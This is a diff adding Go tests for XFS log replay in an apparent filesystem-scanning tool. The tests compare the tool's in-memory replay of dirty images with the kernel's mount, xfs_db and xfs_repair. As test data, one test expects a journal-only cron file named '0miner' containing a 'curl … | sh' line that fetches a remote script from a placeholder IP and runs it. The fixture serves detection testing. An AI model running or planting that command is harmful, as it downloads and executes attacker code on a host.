@@ -1,0 +1,204 @@
+package xfs
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"fmt"
+	"io"
+	"io/fs"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/snapscan/snapscan/fsread"
+	"github.com/snapscan/snapscan/internal/testimg"
+)
+
+// needXFSKernel skips unless this process can loop-mount XFS.
+func needXFSKernel(t testing.TB) {
+	t.Helper()
+	if os.Geteuid() != 0 {
+		t.Skip("needs root: the dirty images are made by the kernel through a loop mount")
+	}
+	for _, tool := range []string{"mkfs.xfs", "xfs_io", "mount"} {
+		if _, err := exec.LookPath(tool); err != nil {
+			t.Skipf("needs %s", tool)
+		}
+	}
+	b, _ := os.ReadFile("/proc/filesystems")
+	if !bytes.Contains(b, []byte("\txfs\n")) {
+		exec.Command("modprobe", "xfs").Run()
+		if b, _ = os.ReadFile("/proc/filesystems"); !bytes.Contains(b, []byte("\txfs\n")) {
+			t.Skip("the kernel has no XFS (not in /proc/filesystems, modprobe xfs failed)")
+		}
+	}
+}
+
+var (
+	dirtyMu   sync.Mutex
+	dirtyImgs = map[string][]byte{}
+)
+
+// dirtyImage runs testdata/images/make-dirty-xfs.sh once per process and
+// kind and returns the image bytes (32 MiB, mostly zeros) and a path to a
+// fresh copy in t's temp directory.
+func dirtyImage(t testing.TB, kind string) ([]byte, string) {
+	t.Helper()
+	needXFSKernel(t)
+	dirtyMu.Lock()
+	defer dirtyMu.Unlock()
+	img, ok := dirtyImgs[kind]
+	if !ok {
+		p := filepath.Join(t.TempDir(), "dirty-"+kind+".img")
+		script := filepath.Join(testimg.RepoRoot(t), "testdata/images/make-dirty-xfs.sh")
+		if out, err := exec.Command("bash", script, p, kind).CombinedOutput(); err != nil {
+			if strings.Contains(string(out), "mount") || strings.Contains(string(out), "wrong fs type") {
+				t.Skipf("kernel cannot make a dirty %s XFS image: %s", kind, out)
+			}
+			t.Fatalf("make-dirty-xfs.sh %s: %v\n%s", kind, err, out)
+		}
+		var err error
+		if img, err = os.ReadFile(p); err != nil {
+			t.Fatal(err)
+		}
+		dirtyImgs[kind] = img
+	}
+	cp := filepath.Join(t.TempDir(), "copy-"+kind+".img")
+	if err := os.WriteFile(cp, img, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return img, cp
+}
+
+// TestLogReplayKernel is the oracle for replay: the kernel mounts a copy
+// of the dirty image (replaying its log), and our in-memory replay must
+// show the same tree -- names, types, modes, owners, sizes, times, link
+// targets, content hashes -- while the on-disk view lacks the files that
+// live only in the log, and the image is not written.
+func TestLogReplayKernel(t *testing.T) {
+	for _, kind := range []string{"v5", "v4"} {
+		t.Run(kind, func(t *testing.T) {
+			img, cp := dirtyImage(t, kind)
+			before := sha256.Sum256(img)
+			r := bytes.NewReader(img)
+
+			disk, err := NewOpts(r, int64(len(img)), "disk", fsread.OpenOptions{NoReplay: true})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if rec := fsread.RecoveryOf(disk); rec.State != fsread.RecoveryDirty || rec.Reason != "log replay disabled: on-disk view" {
+				t.Errorf("on-disk view: recovery %+v", rec)
+			}
+			if _, err := disk.Stat("etc/cron.d/0miner"); err == nil {
+				t.Fatal("the on-disk view already holds etc/cron.d/0miner: the image does not exercise replay")
+			}
+
+			fsys, err := New(r, int64(len(img)), "replayed")
+			if err != nil {
+				t.Fatal(err)
+			}
+			rec := fsread.RecoveryOf(fsys)
+			t.Logf("%s: %s; warnings %q", kind, rec, rec.Warnings)
+			if rec.State != fsread.RecoveryReplayed || rec.Transactions < 1 || rec.Blocks < 1 {
+				t.Errorf("recovery %+v, want replayed", rec)
+			}
+			got, err := fs.ReadFile(fsys, "etc/cron.d/0miner")
+			if err != nil || !bytes.Contains(got, []byte("curl -s http://198.51.100.7/x.sh | sh")) {
+				t.Errorf("journal-only cron file: %q, %v", got, err)
+			}
+
+			mnt, umount := mount(t, cp, "loop,noatime") // rw: recovery writes; noatime: reading must not change what we compare
+			n := compareKernel(t, fsys, mnt)
+			t.Logf("%s: %d entries compared with the kernel's replay", kind, n)
+			if n < 200 {
+				t.Errorf("only %d entries compared", n)
+			}
+			umount()
+			if out, err := exec.Command("xfs_repair", "-n", cp).CombinedOutput(); err != nil {
+				t.Errorf("xfs_repair -n after the kernel's replay: %v\n%s", err, out)
+			}
+			if sha256.Sum256(img) != before {
+				t.Error("replay changed the image bytes")
+			}
+		})
+	}
+}
+
+// TestLogReplayXFSDB checks the replayed inodes against xfs_db reading the
+// kernel-recovered copy: the inode core fields recovery rewrites (LSN
+// excepted, which the kernel stamps when it writes back).
+func TestLogReplayXFSDB(t *testing.T) {
+	img, cp := dirtyImage(t, "v5")
+	mnt, umount := mount(t, cp, "loop")
+	umount()
+	_ = mnt
+	fsys, err := New(bytes.NewReader(img), int64(len(img)), "replayed")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range []string{"etc/cron.d/0miner", "etc/passwd", "var/spool/job-200", "root/link", "var/log/big.log"} {
+		fi, err := fsys.Lstat(p)
+		if err != nil {
+			t.Errorf("%s: %v", p, err)
+			continue
+		}
+		m := fsread.MetaOf(fi)
+		out, err := exec.Command("xfs_db", "-r", "-c", "path /"+p, "-c", "print core.mode core.size core.nlinkv2 core.uid core.gid core.nextents", cp).CombinedOutput()
+		if err != nil {
+			t.Fatalf("xfs_db %s: %v\n%s", p, err, out)
+		}
+		want := fmt.Sprintf("core.size = %d\ncore.nlinkv2 = %d\ncore.uid = %d\ncore.gid = %d\n", m.Size, m.Nlink, m.UID, m.GID)
+		if !strings.Contains(string(out), want) {
+			t.Errorf("%s: ours\n%s xfs_db\n%s", p, want, out)
+		}
+	}
+}
+
+// TestLogReplayReadsBounded reads every file of the replayed image in
+// small pieces at odd offsets: the overlay must patch partial blocks the
+// same as whole ones.
+func TestLogReplayReadsBounded(t *testing.T) {
+	img, _ := dirtyImage(t, "v5")
+	fsys, err := New(bytes.NewReader(img), int64(len(img)), "replayed")
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = fsread.Walk(fsys, ".", func(p string, d fs.DirEntry, err error) error {
+		if err != nil || !d.Type().IsRegular() {
+			return err
+		}
+		whole, err := fs.ReadFile(fsys, p)
+		if err != nil {
+			return err
+		}
+		f, err := fsys.Open(p)
+		if err != nil {
+			return err
+		}
+		defer f.Close()
+		ra := f.(io.ReaderAt)
+		var pieces []byte
+		buf := make([]byte, 777)
+		for off := int64(0); ; {
+			n, err := ra.ReadAt(buf, off)
+			pieces = append(pieces, buf[:n]...)
+			off += int64(n)
+			if err == io.EOF {
+				break
+			}
+			if err != nil {
+				return err
+			}
+		}
+		if !bytes.Equal(whole, pieces) {
+			t.Errorf("%s: piecewise read differs", p)
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+}
